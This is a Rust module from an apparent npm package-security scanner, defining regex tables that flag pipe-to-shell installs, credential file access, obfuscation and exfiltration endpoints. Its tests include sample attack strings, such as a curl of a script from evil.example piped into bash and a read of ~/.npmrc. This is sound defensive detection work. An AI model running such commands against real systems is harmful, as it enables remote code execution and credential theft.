//! Suspicious-pattern tables.
//!
//! Two distinct sets: the lifecycle set matches shell command strings from
//! manifest scripts; the source set matches JavaScript from published
//! tarballs. Script bodies are shell, not JavaScript, which is why the sets
//! differ.

use lazy_static::lazy_static;
use pkgpulse_core::{PatternSeverity, SuspiciousPattern};
use regex::Regex;

/// One table row: compiled pattern, type tag, severity, description.
pub struct PatternRule {
    pub regex: Regex,
    pub pattern_type: &'static str,
    pub severity: PatternSeverity,
    pub description: &'static str,
}

fn rule(
    pattern: &str,
    pattern_type: &'static str,
    severity: PatternSeverity,
    description: &'static str,
) -> PatternRule {
    PatternRule {
        regex: Regex::new(pattern).expect("static pattern must compile"),
        pattern_type,
        severity,
        description,
    }
}

lazy_static! {
    /// Patterns for manifest lifecycle scripts (shell command strings).
    pub static ref LIFECYCLE_PATTERNS: Vec<PatternRule> = vec![
        rule(
            r"(curl|wget)\s+[^|;]*\|\s*(bash|sh|zsh)",
            "pipe_to_shell",
            PatternSeverity::Critical,
            "Remote script piped directly into a shell",
        ),
        rule(
            r"\b(curl|wget)\b",
            "network_call",
            PatternSeverity::High,
            "Network fetch during package lifecycle",
        ),
        rule(
            r"bun\.sh|npm\s+install\s+(-g\s+)?bun\b|deno\.land|deno\.com|install\s+(bun|deno)\b",
            "runtime_install",
            PatternSeverity::Critical,
            "Installs an alternative runtime (Bun/Deno) at install time",
        ),
        rule(
            r"\.ssh\b|\.npmrc\b|\.aws\b|\.pypirc\b|\.git-credentials\b|id_rsa|id_ed25519|/etc/passwd",
            "credential_access",
            PatternSeverity::Critical,
            "References credential or key material",
        ),
        rule(
            r"base64\s+(-d|--decode)|atob\s*\(",
            "base64_decode",
            PatternSeverity::High,
            "Decodes base64 content in a lifecycle script",
        ),
        rule(
            r"\bnode\s+[\w./-]+\.c?js\b",
            "node_execution",
            PatternSeverity::Medium,
            "Executes a bundled script file with node",
        ),
        rule(
            r"https?://[^\s'\x22]+",
            "url_literal",
            PatternSeverity::Medium,
            "Hard-coded URL in a lifecycle script",
        ),
        rule(
            r"\$\{?[A-Z_][A-Z0-9_]*\}?",
            "env_access",
            PatternSeverity::Low,
            "Reads environment variables",
        ),
    ];

    /// Patterns for JavaScript source files in published tarballs.
    pub static ref SOURCE_PATTERNS: Vec<PatternRule> = vec![
        rule(
            r"[A-Za-z0-9+/]{120,}={0,2}",
            "obfuscation",
            PatternSeverity::High,
            "Long base64 literal",
        ),
        rule(
            r"(\\x[0-9a-fA-F]{2}){20,}",
            "obfuscation",
            PatternSeverity::High,
            "Long hex-escaped sequence",
        ),
        rule(
            r"eval\s*\(\s*[A-Za-z_$][\w$]*\s*\)",
            "obfuscation",
            PatternSeverity::Critical,
            "eval of a variable",
        ),
        rule(
            r"eval\s*\([^)]*\+[^)]*\)",
            "obfuscation",
            PatternSeverity::Critical,
            "eval of concatenated strings",
        ),
        rule(
            r"new\s+Function\s*\([^)]*\+[^)]*\)",
            "obfuscation",
            PatternSeverity::Critical,
            "Function constructor with concatenated body",
        ),
        rule(
            r"_0x[a-f0-9]{4,}",
            "obfuscation",
            PatternSeverity::High,
            "Heavily obfuscated identifiers",
        ),
        rule(
            r"String\.fromCharCode\s*\((\s*\d+\s*,){9,}",
            "obfuscation",
            PatternSeverity::High,
            "Character-code string assembly",
        ),
        rule(
            r#"Buffer\.from\s*\(\s*[A-Za-z_$][\w$]*\s*,\s*['\x22]base64['\x22]\s*\)"#,
            "obfuscation",
            PatternSeverity::High,
            "Base64 decode of a variable",
        ),
        rule(
            r"https?://[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}",
            "network_call",
            PatternSeverity::High,
            "Direct IP address connection",
        ),
        rule(
            r"webhook|pastebin\.com|ngrok|localtunnel",
            "network_call",
            PatternSeverity::High,
            "Exfiltration-prone network endpoint",
        ),
        rule(
            r"\bfetch\s*\(|XMLHttpRequest|require\s*\(\s*['\x22]https?['\x22]\s*\)",
            "network_call",
            PatternSeverity::Medium,
            "Performs network requests",
        ),
        rule(
            r"\.ssh\b|\.npmrc\b|\.aws\b|\.docker/config\.json|\.kube/config|id_rsa|id_ed25519",
            "credential_access",
            PatternSeverity::Critical,
            "References credential or key material",
        ),
        rule(
            r"process\.env",
            "env_access",
            PatternSeverity::Medium,
            "Reads process environment",
        ),
        rule(
            r"child_process|execSync|spawnSync",
            "process_spawn",
            PatternSeverity::High,
            "Spawns child processes",
        ),
        rule(
            r"bun\.sh|deno\.land|deno\.com",
            "runtime_install",
            PatternSeverity::Critical,
            "Downloads an alternative runtime",
        ),
    ];
}

/// Known-malicious member filenames with predetermined severity.
pub const KNOWN_MALICIOUS_FILES: &[(&str, PatternSeverity)] = &[
    ("setup_bun.js", PatternSeverity::Critical),
    ("bun_environment.js", PatternSeverity::Critical),
    ("setup_deno.js", PatternSeverity::Critical),
];

/// Additive risk contribution per pattern severity.
pub fn severity_weight(severity: PatternSeverity) -> u32 {
    match severity {
        PatternSeverity::Critical => 25,
        PatternSeverity::High => 15,
        PatternSeverity::Medium => 8,
        PatternSeverity::Low => 3,
    }
}

/// Scan `content` against a table, recording one finding per rule.
pub fn scan(rules: &[PatternRule], content: &str, location: &str) -> Vec<SuspiciousPattern> {
    let mut findings = Vec::new();
    for rule in rules {
        if let Some(m) = rule.regex.find(content) {
            let matched: String = m.as_str().chars().take(120).collect();
            findings.push(SuspiciousPattern {
                pattern_type: rule.pattern_type.to_string(),
                severity: rule.severity,
                location: location.to_string(),
                matched_content: matched,
                description: rule.description.to_string(),
            });
        }
    }
    findings
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pipe_to_shell_is_critical() {
        let findings = scan(
            &LIFECYCLE_PATTERNS,
            "curl https://evil.example/x.sh | bash",
            "preinstall",
        );
        assert!(findings
            .iter()
            .any(|f| f.pattern_type == "pipe_to_shell" && f.severity == PatternSeverity::Critical));
        // The same command also trips the network rule.
        assert!(findings.iter().any(|f| f.pattern_type == "network_call"));
    }

    #[test]
    fn runtime_install_variants() {
        for cmd in [
            "curl -fsSL https://bun.sh/install | bash",
            "npm install -g bun",
            "sh -c 'install deno'",
        ] {
            let findings = scan(&LIFECYCLE_PATTERNS, cmd, "postinstall");
            assert!(
                findings.iter().any(|f| f.pattern_type == "runtime_install"),
                "missed: {cmd}"
            );
        }
    }

    #[test]
    fn benign_script_is_clean() {
        let findings = scan(&LIFECYCLE_PATTERNS, "echo installed", "postinstall");
        assert!(findings.is_empty());
    }

    #[test]
    fn source_patterns_catch_eval_and_obfuscated_names() {
        let code = "var _0xdeadbeef = ['a','b'];\neval(payload);\n";
        let findings = scan(&SOURCE_PATTERNS, code, "index.js");
        let types: Vec<&str> = findings.iter().map(|f| f.pattern_type.as_str()).collect();
        assert!(types.contains(&"obfuscation"));
    }

    #[test]
    fn source_patterns_catch_credential_and_env() {
        let code = "const k = fs.readFileSync(process.env.HOME + '/.npmrc');";
        let findings = scan(&SOURCE_PATTERNS, code, "steal.js");
        assert!(findings.iter().any(|f| f.pattern_type == "credential_access"));
        assert!(findings.iter().any(|f| f.pattern_type == "env_access"));
    }
}
